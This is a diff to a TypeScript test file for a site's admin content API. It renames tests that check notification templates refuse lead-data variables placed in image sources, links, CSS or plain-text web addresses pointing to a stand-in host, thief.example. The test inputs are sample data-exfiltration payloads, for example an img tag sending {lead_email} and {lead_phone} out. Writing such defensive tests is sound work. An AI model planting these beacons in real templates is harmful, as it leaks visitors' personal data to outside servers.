@@ -4,7 +4,7 @@ import { type Answer, anAdmin, testApi } from '../support/index.ts';
 const placesOf = ({ body }: Answer): string[] =>
   body.detail.map(({ loc }: { loc: string[] }) => loc.slice(1).join('.'));
 
-t.test('the HTML of notifications', async t => {
+t.test('HTML that an admin writes for notifications', async t => {
   const api = await testApi(t);
   const admin = await anAdmin(api.database);
   const save = (body: object) => api.call('PUT /content', { as: admin, body });
@@ -36,7 +36,7 @@ t.test("notification templates cannot send visitors' data to other servers", asy
   const save = (body: object) => api.call('PUT /content', { as: admin, body });
   const site = api.config.publicUrl;
 
-  t.test('refuses a variable inside a tag, and stores nothing', async t => {
+  t.test('a template with a variable inside a tag is refused and not stored', async t => {
     const refused = [
       '<p>New <img src="https://thief.example/p?e={lead_email}&p={lead_phone}"></p>',
       '<a href="https://thief.example/?{lead_email}">Open</a>',
@@ -61,7 +61,7 @@ t.test("notification templates cannot send visitors' data to other servers", asy
     t.equal((await save({})).body.leadNotificationHtml.includes('thief'), false);
   });
 
-  t.test('ignores variables in tags, attributes and styles that are removed anyway', async t => {
+  t.test('variables in tags, attributes and styles that are removed anyway are ignored', async t => {
     const dropped = [
       '<p style="background:url(https://thief.example/{lead_email})">x</p>',
       '<style>p{background:url(https://thief.example/{lead_email})}</style><p>x</p>',
@@ -76,7 +76,7 @@ t.test("notification templates cannot send visitors' data to other servers", asy
     }
   });
 
-  t.test('accepts only pictures of this site', async t => {
+  t.test('only pictures of this site are accepted', async t => {
     for (const src of [
       'https://thief.example/p.png',
       'http://thief.example/uploads/abc.png',
@@ -96,45 +96,48 @@ t.test("notification templates cannot send visitors' data to other servers", asy
     }
   });
 
-  t.test('refuses a variable in a web address in a text, because programs open addresses to show previews', async t => {
-    const texts = [
-      'https://thief.example/?e={lead_email}',
-      'See (HTTPS://thief.example/{lead_phone}).',
-      'www.thief.example?{lead_name}',
-      'thief.example/{lead_phone}',
-      'thief.xn--p1ai/{lead_phone}',
-      'thief.example:8080?{lead_phone}',
-      '203.0.113.7/{lead_phone}',
-      '{lead_phone}.thief.example',
-      'x-{investment_budget}.thief.example',
-      // Some programs end a link at these characters, others at the next space.
-      ...[...'，。；、！（）：？'].map(sign => `https://thief.example/${sign}{lead_email}`),
-      '请看 https://example.com/admin，电话{lead_phone}。',
-      'www.thief.example，客户：（{lead_name}）',
-    ];
-    const fields = [
-      'leadNotificationSubject',
-      'leadNotificationMessage',
-      'leadNotificationHtml',
-      'whatsappNotificationMessage',
-    ];
-    for (const field of fields)
-      for (const text of texts) t.same(placesOf(await save({ [field]: `New: ${text} now` })), [field], text);
-    for (const html of [
-      '<p>https://thief.example/?e=<strong>{lead_email}</strong></p>',
-      '<p>https://thief.example，<strong>{lead_email}</strong></p>',
-      '<p>thief.<em>example/</em>{lead_email}</p>',
-    ])
-      t.same(placesOf(await save({ leadNotificationHtml: html })), ['leadNotificationHtml'], html);
-    t.same(placesOf(await save(Object.fromEntries(fields.map(field => [field, texts[0]])))), fields, 'all at once');
-    const unchanged = [
-      'Name:{lead_name}, {lead_email}|{lead_phone}.Regards',
-      'Mr.{lead_name} of {franchise_name}: https://example.com/admin?a=1 ({timeline})',
-      '请看 https://example.com/admin ，电话{lead_phone}。',
-      '电话{lead_phone}，请看https://example.com/admin。',
-      '{lead_name}…e.g. {message}/{timeline}',
-    ];
-    for (const text of unchanged)
-      for (const field of fields) t.equal((await save({ [field]: text })).status, 200, text);
-  });
+  t.test(
+    'a variable in a web address in a text is refused, because programs open such addresses to show previews',
+    async t => {
+      const texts = [
+        'https://thief.example/?e={lead_email}',
+        'See (HTTPS://thief.example/{lead_phone}).',
+        'www.thief.example?{lead_name}',
+        'thief.example/{lead_phone}',
+        'thief.xn--p1ai/{lead_phone}',
+        'thief.example:8080?{lead_phone}',
+        '203.0.113.7/{lead_phone}',
+        '{lead_phone}.thief.example',
+        'x-{investment_budget}.thief.example',
+        // Some programs end a link at these characters, others at the next space.
+        ...[...'，。；、！（）：？'].map(sign => `https://thief.example/${sign}{lead_email}`),
+        '请看 https://example.com/admin，电话{lead_phone}。',
+        'www.thief.example，客户：（{lead_name}）',
+      ];
+      const fields = [
+        'leadNotificationSubject',
+        'leadNotificationMessage',
+        'leadNotificationHtml',
+        'whatsappNotificationMessage',
+      ];
+      for (const field of fields)
+        for (const text of texts) t.same(placesOf(await save({ [field]: `New: ${text} now` })), [field], text);
+      for (const html of [
+        '<p>https://thief.example/?e=<strong>{lead_email}</strong></p>',
+        '<p>https://thief.example，<strong>{lead_email}</strong></p>',
+        '<p>thief.<em>example/</em>{lead_email}</p>',
+      ])
+        t.same(placesOf(await save({ leadNotificationHtml: html })), ['leadNotificationHtml'], html);
+      t.same(placesOf(await save(Object.fromEntries(fields.map(field => [field, texts[0]])))), fields, 'all at once');
+      const unchanged = [
+        'Name:{lead_name}, {lead_email}|{lead_phone}.Regards',
+        'Mr.{lead_name} of {franchise_name}: https://example.com/admin?a=1 ({timeline})',
+        '请看 https://example.com/admin ，电话{lead_phone}。',
+        '电话{lead_phone}，请看https://example.com/admin。',
+        '{lead_name}…e.g. {message}/{timeline}',
+      ];
+      for (const text of unchanged)
+        for (const field of fields) t.equal((await save({ [field]: text })).status, 200, text);
+    },
+  );
 });
